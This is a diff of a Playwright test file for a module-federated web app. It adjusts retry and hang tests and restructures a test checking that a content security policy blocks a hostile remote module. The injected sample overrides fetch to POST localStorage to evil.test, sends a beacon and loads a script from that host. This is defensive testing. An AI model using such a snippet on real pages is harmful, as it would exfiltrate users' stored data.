@@ -1,5 +1,5 @@
 import { controlClock, expectWithin } from './clock';
-import { signIn, signInAs, violationsOn } from './fixtures';
+import { signIn, signInAs } from './fixtures';
 import { handMade, integrityOf, mirror, notice, publishNext, type Row, script, sorry } from './nextRelease';
 import { cards } from './parts';
 import { expect, type FaultyStack, test } from './proxy';
@@ -61,7 +61,8 @@ for (const [name, arrange] of Object.entries(bad)) {
     await expect(page.getByText(notice)).toBeVisible();
     await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
     const tries = faulty.requests.filter(({ call }) => call.includes('/next/remoteEntry.js'));
-    expect(tries.length).toBeLessThanOrEqual(2);
+    // Prefetched, loaded, and fetched once more to find out what to report.
+    expect(tries.length).toBeLessThanOrEqual(3);
   });
 }
 
@@ -97,7 +98,7 @@ test('code that never responds is reported within 10 s, and Retry loads it once 
   const hang = (file: RegExp) => faulty.fault({ when: file, answer: 'hang' });
   const retry = () => page.getByRole('button', { name: 'Retry' }).click();
 
-  const endPage = hang(/GET \/__federation_expose_CategoriesPage/);
+  const endPage = hang(/\/__federation_expose_CategoriesPage/);
   await page.getByRole('link', { name: 'Categories', exact: true }).click();
   await expectWithin(page, 10, () => expect(page.getByText(sorry)).toBeVisible({ timeout: 500 }));
   endPage();
@@ -107,7 +108,7 @@ test('code that never responds is reported within 10 s, and Retry loads it once 
   await page.goto('/subscriptions');
   const subscribe = page.getByRole('button', { name: 'Subscribe to a Newsletter' });
   await expect(subscribe).toBeVisible();
-  const endPart = hang(/GET \/\w+\.[0-9a-f]{12}\.js/);
+  const endPart = hang(/\/\w+\.[0-9a-f]{12}\.js/);
   await subscribe.click();
   await expectWithin(page, 10, () => expect(page.getByRole('alert')).toBeVisible({ timeout: 500 }));
   endPart();
@@ -149,32 +150,38 @@ test('two crashing releases are tried once each and end in one message, while ot
   expect(entries()).toBe(tries);
 });
 
-test('a remote that turns hostile cannot send anything to another host', async ({ page, faulty }) => {
-  const sent: string[] = [];
-  page.on('requestfinished', (request) => sent.push(request.url()));
-  const violations = await violationsOn(page);
-  handMade(
+test.describe(() => {
+  test.use({ expectViolations: true });
+
+  test('a remote that turns hostile cannot send anything to another host', async ({
+    page,
     faulty,
-    `const real = window.fetch;
-     window.fetch = (...all) => { real('https://evil.test/steal', { method: 'POST', body: JSON.stringify(localStorage) }).catch(() => {}); return real(...all); };
-     navigator.sendBeacon('https://evil.test/beacon', 'x');
-     const script = document.createElement('script'); script.src = 'https://evil.test/script.js'; document.head.append(script);
-     return { default: () => null }`,
-  );
-  await page.goto('/');
-  await page.getByRole('button', { name: 'Sign In' }).click();
-  await expect(page.getByRole('dialog', { name: 'Sign In' })).toBeVisible();
-  await page.evaluate(() => fetch('/config.json'));
-  await expect
-    .poll(() => violations)
-    .toEqual(
-      expect.arrayContaining([
-        'connect-src https://evil.test/steal',
-        'connect-src https://evil.test/beacon',
-        'script-src-elem https://evil.test/script.js',
-      ]),
+    violations,
+  }) => {
+    const sent: string[] = [];
+    page.on('requestfinished', (request) => sent.push(request.url()));
+    handMade(
+      faulty,
+      `const real = window.fetch;
+       window.fetch = (...all) => { real('https://evil.test/steal', { method: 'POST', body: JSON.stringify(localStorage) }).catch(() => {}); return real(...all); };
+       navigator.sendBeacon('https://evil.test/beacon', 'x');
+       const script = document.createElement('script'); script.src = 'https://evil.test/script.js'; document.head.append(script);
+       return { default: () => null }`,
     );
-  expect(sent.filter((url) => url.includes('evil.test'))).toEqual([]);
+    await page.goto('/');
+    await page.getByRole('button', { name: 'Sign In' }).click();
+    await expect(page.getByRole('dialog', { name: 'Sign In' })).toBeVisible();
+    await page.evaluate(() => fetch('/config.json'));
+    const blocked = [
+      /'https:\/\/evil\.test\/steal' .*connect-src/,
+      /'https:\/\/evil\.test\/beacon' .*connect-src/,
+      /'https:\/\/evil\.test\/script\.js' .*script-src/,
+    ];
+    await expect
+      .poll(() => violations)
+      .toEqual(expect.arrayContaining(blocked.map((text) => expect.stringMatching(text))));
+    expect(sent.filter((url) => url.includes('evil.test'))).toEqual([]);
+  });
 });
 
 test('a part of the shell that could not be loaded can be retried', async ({ page, faulty }) => {
